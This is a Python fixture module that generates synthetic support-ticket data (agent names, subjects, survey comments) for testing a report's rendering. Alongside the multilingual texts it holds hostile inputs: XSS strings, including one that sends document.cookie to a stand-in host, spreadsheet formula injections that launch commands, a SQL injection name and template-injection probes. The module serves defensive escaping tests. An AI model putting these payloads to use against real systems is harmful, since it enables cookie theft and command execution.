"""The texts of the synthetic account: names, subjects, reasons and comments, friendly, foreign and hostile.

All of them are invented. The hostile ones are what an inbox receives sooner or later: markup, formulas,
direction marks, contact data. A report must show them without harm.
"""

from __future__ import annotations

from itertools import product


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


def _lines(text: str) -> tuple[str, ...]:
    return tuple(text.strip().splitlines())


GROUPS = ("First Line", "Billing", "Technical", "Returns", "Onboarding", "Messaging & Voice")

# one block per group; the former agent and the one in two groups are named in people.py
_AGENTS_BY_GROUP = """
Amara Okafor
Jonas Weber
Priya Raman
Łukasz Wójcik
Chloé Martin
Daniel O'Brien
Noor Haddad
Tomás Herrera
Mei-Ling Chen

Sofía Núñez
Erik Lindqvist
Fatima Zahra El Idrissi
Hannah Schröder
Kwame Mensah
Olga Petrova
Rafael Souza
佐藤 美咲

Anders Møller
Deepak Sharma
李 伟
Maya Cohen
Viktor Horváth
Zeynep Yılmaz
Grace Kim

Aoife Byrne
Bogdan Ionescu
Camila Rojas
محمد العلي
Ingrid Haugen
Pieter van den Berg

Elena Rossi
Hiroshi Tanaka
Joanna Kowalczyk
Samuel Adeyemi
Thu Hà Nguyễn
अनिता वर्मा

Alex Kim
Ελένη Παπαδοπούλου
Marcus Brown
Юлія Шевченко
"""
# (name, number of the home group)
AGENTS = tuple(
    (name, group)
    for group, names in enumerate(_AGENTS_BY_GROUP.strip().split("\n\n"))
    for name in names.splitlines()
)

ORGANIZATIONS = (
    "Nordwind GmbH",
    "Blue Harbour Ltd",
    "Café & Söhne",
    "株式会社あおぞら",
    "Smith <& Partners>",
    "Acme",
)

FIRST_NAMES = _words(
    """
Ada Ben Chiara Dilnoza Emil Farah Gábor Hana Ivo Jun Kofi Leïla Marek Nadia Oskar Pilar Quentin Rania Søren
Tuğba Ulrike Valentina Wanjiru Xóchitl Yusuf Zsófia محمد שרה 太郎 小红 राहुल Дмитро
"""
)
LAST_NAMES = _words(
    """
Almeida Björk Costa Dubois Eriksen Fischer García Hughes Ito Jansen Kaya Lewandowska Müller Novák O'Neil
Park Quispe Rossi Singh Tran Usman Vega Wu
"""
)
HOSTILE_NAMES = (
    "<b>Bobby</b> <script>alert('name')</script>",
    '=HYPERLINK("http://evil.example","click")',
    "Robert'); DROP TABLE tickets;--",
    "\u202etxt.exe\u202c Right-to-Left",
    "{{ticket.requester.name}} ${HOME} %s",
    "A" * 240,
    "👩‍💻🔥",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)

# name, tag of the dropdown, mean difficulty; one row per group
TOPICS = (
    (("Account access", "topic_account_access", -0.2), ("General question", "topic_general", -0.4)),
    (("Invoice", "topic_invoice", 0.0), ("Refund", "topic_refund", 0.3)),
    (("Bug report", "topic_bug", 0.6), ("Integration", "topic_integration", 0.4)),
    (("Return", "topic_return", 0.1), ("Late delivery", "topic_late_delivery", 0.2)),
    (("Setup", "topic_setup", 0.0), ("Training", "topic_training", -0.3)),
    (("Order change", "topic_order_change", -0.2), ("Account access", "topic_account_access", -0.2)),
)

# the last one is not used
FORMS = ("Default ticket form", "Refund request", "Partner request")
# position of the form, by group and topic
FORM_OF_TOPIC = tuple(
    tuple(int(tag in ("topic_refund", "topic_return")) for _, tag, _ in topics) for topics in TOPICS
)

TAGS = ((), ("vip",), ("beta",), ("closed_by_merge",), ("vip", "escalated"), ("über_urgent",))

SUBJECTS = _lines(
    """
Cannot log in after password reset
Question about my last invoice
Charged twice in October
Parcel still not here
Export to CSV stops half way
How do I add a second user?
Please change the delivery address
Discount code does not work
App crashes when I open settings
Cancel my subscription
Invoice without VAT number
Wrong size received
Where is my refund?
Rückerstattung fehlt noch immer
Kann mich nicht anmelden
Faktura bez numeru NIP
No puedo iniciar sesión
Pedido incompleto
Commande jamais reçue
Mot de passe oublié
لم يصل طلبي بعد
לא קיבלתי זיכוי
登录后页面空白
請求書を再送してください
रिफंड कब मिलेगा?
Не приходить код підтвердження
Help!!! 😡😡
"""
)
HOSTILE_SUBJECTS = (
    "<script>alert('subject')</script>",
    "<img src=x onerror=alert(1)> order <b>4711</b>",
    '=HYPERLINK("http://evil.example/?q="&A1,"Invoice")',
    "\u202eecivnI \u202c my order \u200f(שלום)",
    "Re: " * 60 + "endless thread",
    "",
)
ALL_SUBJECTS = (*SUBJECTS, *HOSTILE_SUBJECTS)
# in place of the texts of a permanently deleted ticket
SCRUBBED = "SCRUBBED"

# the last one came with version 2 of the survey
REASONS = (
    "The issue took too long to resolve",
    "The issue was not resolved",
    "The information provided was not clear or helpful",
    "I had to repeat myself to several people",
)

_GOOD_OPENINGS = _lines(
    """
Quick and friendly.
Solved on the first try, thank you!
Great help, as always.
Very clear answer.
Patient and kind.
Could not be better.
Fast reply.
Thanks for calling back.
Perfect service
Sehr freundlich und schnell, danke!
¡Excelente atención, muchas gracias!
Świetna obsługa, dziękuję!
شكرا جزيلا على المساعدة السريعة
תודה רבה, שירות מצוין
非常好，谢谢！
とても丁寧な対応でした。
बहुत अच्छी मदद मिली, धन्यवाद
👍👍👍
❤️ best support team
"""
)
_BAD_OPENINGS = _lines(
    """
Took far too long.
Nobody read what I wrote.
Still not working.
I was sent from one person to the next.
Got a copied answer that did not fit.
The refund never arrived.
Waited three days for a first reply.
Closed without solving it!
I had to explain everything again.
The link in the answer was dead.
Viel zu langsam, und das Problem besteht weiter.
Nadie me dio una solución.
Problem nadal nie rozwiązany.
استغرق الأمر وقتا طويلا جدا
עדיין לא פתרו לי את הבעיה
等了三天才有人回复
返事が遅すぎます。
समस्या अभी भी हल नहीं हुई
😡😡😡
👎
"""
)
_DETAILS = (
    "",
    "",
    "",
    "My order was 2 weeks late.",
    "The chat kept dropping.",
    "It was about the invoice of last month.",
    "I wrote about the login, twice.",
    "The app on my phone is the issue.",
    "Please pass this on.",
    "Delivery address was mixed up.",
    "The export is what I needed.",
)
_HOSTILE_COMMENTS = (
    "<script>fetch('http://evil.example/'+document.cookie)</script>",
    "<img src=x onerror=\"alert('comment')\">",
    "=cmd|' /C calc'!A0",
    "+49 30 901820 is my number, or write to max.mustermann@example.com!",
    "Call me: (020) 7946 0958, card 4111 1111 1111 1111, IBAN DE02 1203 0000 0000 2020 51",
    "\u202eThis text runs backwards\u202c",
    "</table></div><h1>Breaking out</h1>",
    "{{config}} ${7*7} `id` %(password)s",
    "[click](javascript:alert(1)) and ![x](http://evil.example/pixel.png)",
    "line one\nline two\r\n\tline three",
    "word " * 400 + "end",
    "🙃" * 80,
)


def _add_details(openings: tuple[str, ...]) -> list[str]:
    """Return English openings with every detail, and the others five times."""
    english = [opening for opening in openings if opening.isascii()]
    foreign = [opening for opening in openings if not opening.isascii()]
    return foreign * 5 + [f"{opening} {detail}".strip() for opening, detail in product(english, _DETAILS)]


_GOOD = _add_details(_GOOD_OPENINGS)
_BAD = _add_details(_BAD_OPENINGS)
# one list for all comments, so that a comment is a number
COMMENTS = (*_GOOD, *_BAD, *_HOSTILE_COMMENTS)
GOOD_COMMENTS = range(len(_GOOD))
BAD_COMMENTS = range(len(_GOOD), len(_GOOD) + len(_BAD))
HOSTILE_COMMENTS = range(len(_GOOD) + len(_BAD), len(COMMENTS))
